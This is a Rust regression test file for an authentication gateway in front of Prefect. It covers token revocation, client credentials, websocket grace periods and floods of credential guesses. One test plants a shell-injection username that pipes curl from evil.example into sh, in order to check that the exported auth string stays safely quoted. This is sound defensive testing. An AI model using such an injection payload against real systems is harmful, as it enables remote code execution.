//! What a review of the machines' ways found: each of these failed before.

use crate::foundation::id::{Id as _, SessionId};
use crate::site::Call;
#[cfg(target_family = "wasm")]
use wasm_bindgen_test::wasm_bindgen_test as test;

use std::rc::Rc;

use crate::foundation::stream::StreamId;
use crate::foundation::time::UnixTime;
use crate::gate::decision::DataStep;
use crate::provider::callout::CalloutReply;
use crate::site::SiteCall;
use crate::site::sockets::SocketVerdict;
use crate::testing::browser::Browser;
use crate::testing::idp::Mood;
use crate::testing::store::MemoryStore;
use crate::testing::{
    Headers, Outcome, World, auth_frame, basic, code, compile, configuration, header, host,
    reply_of, request,
};
use crate::wire::http::query::encode;
use crate::wire::websocket;
use crate::workers::SharedStore;
use crate::{Gate, Site};
use serde_json::{Value, json};

const PAIR: &str = "etl-worker:planted-secret-of-etl";
const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const POST: [(&str, &str); 4] = [
    ("sec-fetch-site", "same-origin"),
    ("sec-fetch-mode", "navigate"),
    ("sec-fetch-dest", "document"),
    ("origin", crate::testing::PUBLIC),
];

fn asks(pair: &str) -> Headers {
    request("GET", "/api/flows/1", &[("authorization", &basic(pair))])
}
fn status(world: &mut World, pair: &str) -> u16 {
    world.request(&asks(pair)).1.status()
}
fn on(store: &Rc<dyn SharedStore>, settings: &Value) -> World {
    let mut world = World::starting(settings);
    world.site = Site::new(compile(settings), host(Rc::clone(store)));
    world.work();
    world
}
fn store() -> Rc<dyn SharedStore> {
    Rc::new(MemoryStore::default())
}
fn buffered() -> Value {
    let mut settings = configuration();
    settings["prefect"] = json!({"buffered_routes": true});
    settings
}
fn made(world: &mut World) -> String {
    let mut browser = Browser::default();
    world.idp.claims["auth_time"] = json!(world.now.secs());
    browser.log_in(world, "/oauth2/token");
    let asked = browser.load(world, "/oauth2/token").reply();
    let asked = String::from_utf8(asked.body).unwrap();
    let (_, rest) = asked.split_once("method=\"post\" action=\"").expect("a form");
    let action = rest.split_once('"').unwrap().0.to_owned();
    let reply = world.request(&browser.headers("POST", &action, &POST)).1.reply();
    let page = String::from_utf8(reply.body).unwrap();
    let (_, rest) = page.split_once("PREFECT_API_AUTH_STRING=&#39;").expect("the setting");
    rest.split_once("&#39;</").unwrap_or_else(|| rest.split_once("&#39;\n").unwrap()).0.to_owned()
}
fn socket(world: &mut World) -> Gate {
    let mut gate = world.unproved_socket();
    let held = auth_frame(PAIR);
    let mut step = gate.on_request_data(&held, false, &mut world.cx());
    if gate.waits_with_data().is_some() {
        world.work();
        step = gate.on_data_wake(&held, &mut world.cx());
    }
    assert!(matches!(step, DataStep::Replace(_)), "{step:?}");
    assert!(!world.site.sockets.to_be_judged(true, world.now).is_empty(), "not open");
    gate
}
fn ended(world: &mut World) -> Vec<StreamId> {
    world.site.sockets_to_end(None, world.now)
}

#[test]
fn a_personal_token_that_was_revoked_stays_revoked() {
    for (session, tokens, life) in [
        (json!({ "absolute": "1h" }), json!({}), 3600),
        (json!({}), json!({ "max": "720h" }), 36_000),
    ] {
        let mut settings = buffered();
        settings["session"] = session;
        settings["machines"]["personal_tokens"] = tokens;
        let mut world = World::starting(&settings);
        world.work();
        let pair = made(&mut world);
        let claims = json!({
            "iss": crate::testing::ISSUER, "aud": "prefect", "iat": world.now.secs(), "sid": "sid-1",
            "sub": "alice-1", "exp": world.now.secs() + 120, "jti": "j1", "typ": "Logout",
            "events": {"http://schemas.openid.net/event/backchannel-logout": {}},
        });
        let token = world.idp.sign(&claims);
        let body = encode([("logout_token", token.as_str())]);
        let headers = request("POST", "/oauth2/backchannel_logout", &[FORM]);
        assert_eq!(world.post(&headers, body.as_bytes(), 100).status(), 200);
        assert_eq!(status(&mut world, &pair), 401);
        world.pass(life - 1);
        assert_eq!(status(&mut world, &pair), 401);
        world.pass(1);
        assert_eq!(status(&mut world, &pair), 401, "a revoked token has come back to life");
    }
}

#[test]
fn what_other_settings_said_of_credentials_is_not_believed() {
    let store = store();
    let mut loose = configuration();
    loose["roles"] = json!({ "admin": ["prefect-worker"], "worker": ["x"] });
    let mut before = on(&store, &loose);
    assert_eq!(
        header(&before.request(&asks(PAIR)).1.forwarded(), "x-auth-request-groups"),
        Some("admin")
    );
    let mut after = on(&store, &configuration());
    let headers = after.request(&asks(PAIR)).1.forwarded();
    assert_eq!(
        header(&headers, "x-auth-request-groups"),
        Some("worker"),
        "the role of other settings"
    );
}

#[test]
fn nor_of_another_issuer_or_audience() {
    for (name, value) in [
        ("issuer", json!("https://sso.example.com/realms/other")),
        ("audiences", json!(["elsewhere"])),
        ("authorized_parties", json!(["ci"])),
    ] {
        let store = store();
        let mut before = on(&store, &configuration());
        assert_eq!(status(&mut before, PAIR), 200);
        let mut settings = configuration();
        settings[name] = value;
        let mut after = on(&store, &settings);
        assert_ne!(status(&mut after, PAIR), 200, "{name}");
    }
}

#[test]
fn a_socket_goes_on_as_long_as_its_credentials_are_shown_and_good() {
    let mut world = World::new();
    let _gate = socket(&mut world);
    for second in 1..=900 {
        world.pass(1);
        assert_eq!(ended(&mut world), Vec::<StreamId>::new(), "second {second}");
        if second % 10 == 0 {
            assert_eq!(status(&mut world, PAIR), 200);
            world.work();
        }
    }
}

#[test]
fn grace_is_for_sockets_too() {
    for slow in [false, true] {
        let mut world = World::new();
        let end = world.now.secs() + 3000;
        world.idp.client_claims = json!({ "exp": end });
        let _gate = socket(&mut world);
        world.pass(299);
        if slow {
            world.idp.mood = Mood::Away
        } else {
            world.idp.instead_of_tokens = Some((500, b"{}".to_vec()))
        }
        for second in 300..330 {
            world.pass(1);
            // A poll is answered first, each second: the best that a worker can do.
            if slow && second == 305 {
                // This time the provider lets the call wait.
                let (_, outcome) = world.begin(&asks(PAIR));
                assert!(matches!(outcome, Outcome::Waiting));
                assert!(world.poll().is_some());
            } else if !(slow && second > 305) {
                assert_eq!(status(&mut world, PAIR), 200, "{second}");
            }
            assert_eq!(ended(&mut world), Vec::<StreamId>::new(), "slow {slow}, second {second}");
            if second == 306 {
                break;
            }
        }
    }
}

#[test]
fn sockets_end_when_the_newest_settings_take_no_such_credentials() {
    for machines in [
        json!({ "client_credentials": false }),
        json!({ "client_credentials": { "clients": ["ci"] } }),
    ] {
        let store = store();
        let mut before = on(&store, &configuration());
        let _gate = socket(&mut before);
        let mut settings = configuration();
        settings["machines"] = machines.clone();
        let mut after = on(&store, &settings);
        assert_eq!(after.request(&asks(PAIR)).1.status(), 401);
        let open = before.site.sockets.to_be_judged(true, before.now).remove(0).1;
        assert_eq!(
            after.site.socket_verdict(&open, before.now),
            SocketVerdict::Close,
            "{machines}"
        );
    }
}

#[test]
fn a_clock_that_goes_back_costs_no_worker_its_place() {
    let mut world = on(&store(), &configuration());
    assert_eq!(status(&mut world, PAIR), 200);
    world.now = UnixTime::from_secs(world.now.secs() - 120);
    world.work();
    for n in 0..20 {
        assert_eq!(
            status(&mut world, PAIR),
            200,
            "request {n}, {} exchanges",
            world.idp.shown.len()
        );
        world.pass(1);
    }
    assert!(world.idp.shown.len() <= 2);
}

#[test]
fn one_odd_guess_keeps_nobody_else_out() {
    let mut world = World::new();
    world.idp.clients.insert("other".into(), "secret".into());
    // A proxy or server between here and there drops a call with such a header: Envoy makes that a 503.
    world.idp.instead_of_tokens = Some((503, Vec::new()));
    status(&mut world, &format!("x:{}", "é".repeat(5000)));
    world.idp.instead_of_tokens = None;
    world.peer.address = b"198.51.100.7".to_vec();
    assert_eq!(status(&mut world, "other:secret"), 200);
}

#[test]
fn a_revoked_client_can_not_hold_off_its_end() {
    let mut world = World::new();
    let end = world.now.secs() + 3000;
    world.idp.client_claims = json!({ "exp": end });
    assert_eq!(status(&mut world, PAIR), 200);
    world.idp.clients.clear();
    world.pass(300);
    for n in 0..100 {
        world.idp.instead_of_tokens = Some((503, Vec::new()));
        status(&mut world, &format!("x{n}:{}", "é".repeat(5000)));
        world.idp.instead_of_tokens = None;
        assert_eq!(status(&mut world, PAIR), 401, "{n}: a revoked client goes on");
        world.pass(4);
    }
}

#[test]
fn guesses_that_queue_hold_up_no_renewal() {
    let mut world = World::new();
    assert_eq!(status(&mut world, PAIR), 200);
    world.pass(300);
    let mut next = 0_u32;
    let mut seconds = Vec::new();
    for second in 0..70 {
        for _ in 0..1100 {
            next += 1;
            world.peer.address = next.to_be_bytes().to_vec();
            drop(world.begin(&asks(&format!("guess-{next}:x"))));
        }
        world.peer.address = b"192.0.2.1".to_vec();
        let (_, outcome) = world.begin(&asks(PAIR));
        seconds.push((second, outcome.status()));
        // A provider that answers 32 in a second.
        let calls: Vec<_> = core::iter::from_fn(|| world.poll()).collect();
        for (call, callout) in calls {
            let answer = world.idp.answer(&callout, world.now);
            world.site.on_callout(call, reply_of(answer.as_ref()), world.now);
        }
        world.pass(1);
    }
    let asked = world.idp.shown.iter().filter(|client| *client == "etl-worker").count();
    assert!(asked > 1, "never renewed: {seconds:?}");
}

#[test]
fn guesses_behind_nginx_starve_nobody() {
    let mut world = World::new();
    for n in 0..100_u32 {
        world.peer.address = n.to_be_bytes().to_vec();
        let line = basic(&format!("guess-{n}:x"));
        world.request(&request("GET", "/oauth2/auth", &[("authorization", &line)]));
    }
    world.peer.address = b"198.51.100.7".to_vec();
    let line = basic(PAIR);
    let reply =
        world.request(&request("GET", "/oauth2/auth", &[("authorization", &line)])).1.reply();
    assert_eq!((reply.status, code_of(&reply)), (202, String::new()));
}
fn code_of(reply: &crate::answer::reply::Reply) -> String {
    if reply.body.is_empty() { String::new() } else { code(reply) }
}

#[test]
fn a_name_with_a_quote_is_no_shell_command() {
    let mut world = World::starting(&buffered());
    world.work();
    world.idp.claims["preferred_username"] = json!("o';curl${IFS}evil.example|sh;'");
    let pair = made(&mut world);
    assert!(
        !pair.contains("&#39;") && !pair.contains('\''),
        "export PREFECT_API_AUTH_STRING='{pair}'"
    );
}

#[test]
fn names_that_nobody_has_fill_no_bucket_up() {
    let mut world = World::new();
    for n in 0..20 {
        status(&mut world, &format!("etl-worker:guess-{n}"));
    }
    assert_eq!(world.idp.shown.len(), 8);
    for n in 0..5000 {
        status(&mut world, &format!("nobody-{n}:x"));
    }
    world.pass(1);
    let before = world.idp.shown.iter().filter(|c| *c == "etl-worker").count();
    for n in 20..40 {
        status(&mut world, &format!("etl-worker:guess-{n}"));
    }
    let after = world.idp.shown.iter().filter(|c| *c == "etl-worker").count();
    assert!(after - before <= 1, "{} guesses in one second", after - before);
}

#[test]
fn trailers_let_no_held_first_frame_go() {
    let mut world = World::new();
    let mut gate = world.unproved_socket();
    let held = auth_frame(PAIR);
    assert_eq!(gate.on_request_data(&held[..20], false, &mut world.cx()), DataStep::Hold);
    assert_ne!(
        gate.on_request_trailers(&mut world.cx()),
        DataStep::Pass,
        "an unjudged frame reaches Prefect"
    );
    let mut gate = world.unproved_socket();
    assert_eq!(gate.on_request_data(&held, false, &mut world.cx()), DataStep::Hold);
    assert!(gate.waits_with_data().is_some());
    assert_ne!(
        gate.on_request_trailers(&mut world.cx()),
        DataStep::Pass,
        "a client's secret reaches Prefect"
    );
}

#[test]
fn a_socket_that_no_site_knows_is_over() {
    let mut world = World::new();
    let mut gate = socket(&mut world);
    // `install` on the same root again.
    world.site = Site::new(compile(&configuration()), host(store()));
    world.work();
    world.pass(100_000);
    assert_eq!(gate.on_request_data(&[], false, &mut world.cx()), DataStep::Reset);
}

#[test]
fn a_socket_opened_in_grace_is_not_ended_at_once() {
    let mut world = World::new();
    let end = world.now.secs() + 3000;
    world.idp.client_claims = json!({ "exp": end });
    assert_eq!(status(&mut world, PAIR), 200);
    world.pass(300);
    world.idp.instead_of_tokens = Some((500, b"{}".to_vec()));
    assert_eq!(status(&mut world, PAIR), 200);
    let _gate = socket(&mut world);
    assert_eq!(ended(&mut world), Vec::<StreamId>::new());
}

#[test]
fn a_provider_that_says_no_in_other_words_ends_it() {
    let mut world = World::new();
    let end = world.now.secs() + 100_000;
    world.idp.client_claims = json!({ "exp": end });
    assert_eq!(status(&mut world, PAIR), 200);
    world.idp.instead_of_tokens = Some((403, br#"{"error":"access_denied"}"#.to_vec()));
    world.pass(300);
    let first = status(&mut world, PAIR);
    world.pass(3500);
    let later = status(&mut world, PAIR);
    assert_eq!((first, later), (401, 401));
}

#[test]
fn mapped_addresses_are_those_of_ipv4() {
    use crate::wire::network::network;
    assert_ne!(network(b"[::ffff:192.0.2.1]"), network(b"[::ffff:198.51.100.7]"));
}

#[test]
fn slow_provider_and_sockets() {
    let mut world = World::new();
    let end = world.now.secs() + 3000;
    world.idp.client_claims = json!({ "exp": end });
    let _gate = socket(&mut world);
    world.pass(300);
    world.idp.mood = Mood::Away;
    assert_eq!(status(&mut world, PAIR), 200, "in grace");
    assert!(ended(&mut world).is_empty());
    world.pass(5);
    // The next try is on its way: the provider has 5 s.
    let (_gate2, outcome) = world.begin(&asks(PAIR));
    assert!(matches!(outcome, Outcome::Waiting));
    assert!(world.poll().is_some());
    assert_eq!(ended(&mut world), Vec::<StreamId>::new(), "while HTTP goes on in grace");
}

#[test]
fn not_before_and_exchanged() {
    // session.not_before: everything issued before is void.
    let store = store();
    let mut before = on(&store, &configuration());
    let _gate = socket(&mut before);
    let mut settings = configuration();
    settings["session"] = json!({ "not_before": "2027-01-15T08:00:01Z" });
    let mut after = on(&store, &settings);
    after.pass(1);
    status(&mut after, PAIR);
    assert_eq!(after.idp.shown.len(), 1, "asked anew");
}

#[test]
fn one_lost_guess_gives_up_nobody_who_stands_in_the_queue() {
    let mut world = World::new();
    world.idp.clients.insert("other".into(), "secret".into());
    let mut guesses = Vec::new();
    for n in 0..33_u32 {
        world.peer.address = n.to_be_bytes().to_vec();
        guesses.push(world.begin(&asks(&format!("guess-{n}:x"))).0);
    }
    world.peer.address = b"198.51.100.7".to_vec();
    let (gate, outcome) = world.begin(&asks("other:secret"));
    assert!(matches!(outcome, Outcome::Waiting));
    // 32 are sent; one of them is lost on the way, the others are answered.
    let calls: Vec<_> = core::iter::from_fn(|| world.poll()).collect();
    assert_eq!(calls.len(), 32);
    world.site.on_callout(
        calls[0].0,
        CalloutReply::Answer { status: 503, encoded: false, body: b"" },
        world.now,
    );
    let outcomes = world.finish_waiting(vec![(gate, asks("other:secret"))]);
    assert_eq!(outcomes[0].1.status(), 200);
}

/// An answer of the provider after the request has left: counters come back to nothing.
#[test]
fn counters_come_back() {
    let mut world = World::new();
    for round in 0..50_u32 {
        for n in 0..40_u32 {
            world.peer.address = (round * 1000 + n).to_be_bytes().to_vec();
            let (mut gate, _) = world.begin(&asks(&format!("g-{round}-{n}:x")));
            if n % 3 == 0 {
                gate.finish(&mut world.site)
            }
        }
        let calls: Vec<_> = core::iter::from_fn(|| world.poll())
            .filter(|(c, _)| matches!(c, SiteCall(Call::ClientGrant(_))))
            .collect();
        assert_eq!(calls.len(), 32, "round {round}");
        for (at, (call, callout)) in calls.into_iter().enumerate() {
            let answer = match at % 4 {
                0 => None,
                1 => Some((500, vec![])),
                _ => world.idp.answer(&callout, world.now),
            };
            world.site.on_callout(call, reply_of(answer.as_ref()), world.now);
            world.site.on_callout(call, reply_of(answer.as_ref()), world.now);
        }
        world.work();
        world.pass(5);
        while let Some((call, callout)) = world.poll() {
            let answer = world.idp.answer(&callout, world.now);
            world.site.on_callout(call, reply_of(answer.as_ref()), world.now);
        }
        world.pass(5);
    }
}

#[test]
fn in_an_outage_every_pair_s_sockets_have_grace() {
    let mut world = World::new();
    let end = world.now.secs() + 3000;
    world.idp.client_claims = json!({ "exp": end });
    world.idp.clients.insert("other".into(), "secret".into());
    assert_eq!(status(&mut world, "other:secret"), 200);
    let _gate = socket(&mut world); // etl-worker's
    world.pass(300);
    world.idp.instead_of_tokens = Some((503, Vec::new()));
    for second in 300..340 {
        // Both are shown in every second, and both go on in grace.
        assert_eq!(status(&mut world, "other:secret"), 200, "{second}");
        assert_eq!(status(&mut world, PAIR), 200, "{second}");
        assert_eq!(ended(&mut world), Vec::<StreamId>::new(), "second {second}");
        world.pass(1);
    }
}

#[test]
fn a_socket_that_is_opened_in_another_pair_s_outage_lives() {
    let mut world = World::new();
    let end = world.now.secs() + 3000;
    world.idp.client_claims = json!({ "exp": end });
    world.idp.clients.insert("other".into(), "secret".into());
    assert_eq!(status(&mut world, "other:secret"), 200);
    assert_eq!(status(&mut world, PAIR), 200);
    world.pass(330);
    world.idp.instead_of_tokens = Some((503, Vec::new()));
    assert_eq!(status(&mut world, "other:secret"), 200);
    let _gate = socket(&mut world);
    assert_eq!(ended(&mut world), Vec::<StreamId>::new());
}

#[test]
fn one_silence_is_no_grace_for_ever() {
    let mut world = World::new();
    let end = world.now.secs() + 100_000;
    world.idp.client_claims = json!({ "exp": end });
    let _gate = socket(&mut world);
    world.pass(300);
    world.idp.instead_of_tokens = Some((503, Vec::new()));
    assert_eq!(status(&mut world, PAIR), 200);
    // The provider is back at once, and the client is revoked; it shows its pair to nobody any more.
    world.idp.instead_of_tokens = None;
    world.idp.clients.clear();
    let mut last = 0;
    for second in 0..4000 {
        world.pass(1);
        world.work();
        if !ended(&mut world).is_empty() {
            break;
        }
        last = second;
    }
    assert!(last < 60, "a revoked client's socket went on for {last} s");
}

#[test]
fn more_than_a_first_frame_is_never_held() {
    use crate::foundation::limits::HELD;
    let mut world = World::new();
    let mut gate = world.unproved_socket();
    // A refused pair, and a lot behind it, in one read of Envoy's.
    let mut held = auth_frame("nobody:wrong");
    held.extend(websocket::write(websocket::TEXT, &vec![b'x'; 20_000], [1, 2, 3, 4]));
    let step = gate.on_request_data(&held, false, &mut world.cx());
    if step == DataStep::Hold {
        assert!(gate.waits_with_data().is_some());
        world.work();
        // The shell reads HELD bytes, and replaces HELD bytes.
        let step = gate.on_data_wake(&held[..HELD], &mut world.cx());
        let DataStep::Replace(close) = step else { panic!("{step:?}") };
        let reaches = [close.as_slice(), &held[HELD..]].concat();
        panic!("{} bytes behind the close frame reach Prefect", reaches.len() - close.len());
    }
}

#[test]
fn sign_outs_of_others_end_nobody_s_personal_token() {
    let mut settings = buffered();
    settings["machines"]["personal_tokens"] = json!({ "max": "720h" });
    let mut world = World::starting(&settings);
    world.work();
    let pair = made(&mut world);
    assert_eq!(status(&mut world, &pair), 200);
    let mut id = 0_u128;
    for day in 1..=25 {
        world.pass(86_400);
        for _ in 0..200 {
            id += 1;
            let now = world.now;
            world.site.sign_out(SessionId::from_bytes(id.to_be_bytes()), now);
        }
        world.work();
        assert_eq!(status(&mut world, &pair), 200, "day {day}");
    }
}

#[test]
fn who_was_given_up_is_not_queued_for_nobody() {
    let mut world = World::new();
    let mut guesses = Vec::new();
    for n in 0..40_u32 {
        world.peer.address = n.to_be_bytes().to_vec();
        let headers = asks(&format!("guess-{n}:x"));
        guesses.push((world.begin(&headers).0, headers));
    }
    let calls: Vec<_> = core::iter::from_fn(|| world.poll())
        .filter(|(c, _)| matches!(c, SiteCall(Call::ClientGrant(_))))
        .collect();
    assert_eq!(calls.len(), 32);
    world.pass(6);
    assert!(world.poll().is_none());
    let now = world.now;
    let woken = world.site.take_woken(now);
    assert_eq!(woken.len(), 8);
    let rest = guesses.split_off(32);
    for (mut gate, headers) in rest {
        let view = crate::wire::http::request::RequestView { headers: &headers };
        let decision = gate.on_wake(view, &mut world.cx());
        assert!(matches!(decision, crate::gate::decision::Decision::Reply(_)));
        gate.finish(&mut world.site);
    }
    for (call, _) in calls {
        world.site.on_callout(call, CalloutReply::NotSent, now);
    }
    let sent = core::iter::from_fn(|| world.poll())
        .filter(|(c, _)| matches!(c, SiteCall(Call::ClientGrant(_))))
        .count();
    assert_eq!(sent, 0, "exchanges for requests that were answered with 503");
}

/// A socket that trailers have ended gives its places back.
#[test]
fn trailers_leave_no_place_taken() {
    let mut world = World::new();
    let mut gate = socket(&mut world);
    assert_eq!(gate.on_request_trailers(&mut world.cx()), DataStep::Reset);
    gate.finish(&mut world.site);
    assert!(world.site.sockets.to_be_judged(true, world.now).is_empty());
    let mut gate = world.unproved_socket();
    assert_eq!(gate.on_request_trailers(&mut world.cx()), DataStep::Reset);
    gate.finish(&mut world.site);
    assert!(world.site.pending.is_empty());
}

/// Prefect's clients open sockets that they may close at once, while an Envoy is rolled over, say: that is
/// no refusal, neither in the log nor to Prefect.
#[test]
fn a_client_that_leaves_before_it_has_spoken_is_refused_nothing() {
    let ping = websocket::write(9, b"1234", [1, 2, 3, 4]);
    let close = websocket::write(websocket::CLOSE, &[3, 232, b'b', b'y', b'e'], [1, 2, 3, 4]);
    let mut world = World::new();
    let mut gate = world.unproved_socket();
    let step = gate.on_request_data(&[ping.as_slice(), &close].concat(), false, &mut world.cx());
    let DataStep::Replace(bytes) = step else { panic!("{step:?}") };
    let rest = bytes.strip_prefix(ping.as_slice()).expect("the ping as it was");
    let websocket::Read::Frame(left) = websocket::read(rest, 4096) else { panic!("no frame") };
    // With the code of whoever leaves, and nothing of what it says.
    assert_eq!((left.opcode, left.payload.as_slice()), (websocket::CLOSE, [3, 232].as_slice()));
    assert_eq!(left.length, rest.len());
    assert!(gate.take_event().is_none());
    assert_eq!(
        gate.on_request_data(b"more", false, &mut world.cx()),
        DataStep::Replace(Vec::new())
    );
    // One that is broken off is none.
    let mut gate = world.unproved_socket();
    let step = gate.on_request_data(&close[..3], false, &mut world.cx());
    assert_eq!(step, DataStep::Hold);
}
